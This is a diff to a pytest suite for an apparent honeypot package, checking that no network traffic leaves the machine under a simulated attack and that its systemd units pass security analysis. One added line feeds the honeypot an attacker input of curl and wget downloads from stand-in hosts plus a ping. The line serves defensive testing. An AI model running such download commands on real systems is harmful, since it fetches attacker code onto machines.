@@ -66,9 +66,12 @@ def test_nothing_leaves_the_machine_unasked(default_installation: Installation) 
 @pytest.mark.bookworm
 @pytest.mark.timeout(QUIET_SECONDS + 300)
 def test_nothing_leaves_the_machine_for_ten_minutes(lab: Lab, plain: Packaged) -> None:
-    with captured(lab) as capture, plain.under_attack() as attack:
+    with captured(lab) as capture:
+        with plain.under_attack() as attack:
+            plain.log_in("curl http://192.0.2.7/x; wget http://decnet.invalid/y; ping -c 1 192.0.2.7")
         assert capture.packets(wait_seconds=QUIET_SECONDS) == []
-    assert len(attack.answered) > QUIET_SECONDS / 10
+    assert attack.answered
+    plain.until_well()
 
 
 def test_there_is_no_docker_and_nothing_misses_it(plain: Packaged) -> None:
@@ -102,9 +105,10 @@ def test_systemd_has_nothing_to_say_against_the_units(honey: Packaged) -> None:
     assert verified.stdout + verified.stderr == ""
     pages = [f"/usr/share/man/man8/{unit.removesuffix('.service')}.8.gz" for unit in (*UNITS, *AS_ROOT)]
     assert honey.machine.output("ls", *pages).splitlines() == sorted(pages)
-    for row in SERVICES:
-        tenths = 25 if "CAP_NET_ADMIN" in row.capabilities else 15
-        honey.machine.run(["systemd-analyze", "security", "--no-pager", f"--threshold={tenths}", unit_of(row)])
+    mighty = {unit_of(row) for row in SERVICES if "CAP_NET_ADMIN" in row.capabilities}
+    for unit in (*UNITS, *AS_ROOT):
+        tenths = 25 if unit in mighty else 15
+        honey.machine.run(["systemd-analyze", "security", "--no-pager", f"--threshold={tenths}", unit])
 
 
 def test_an_impossible_name_stops_the_package_and_a_possible_one_lets_it_go_on(
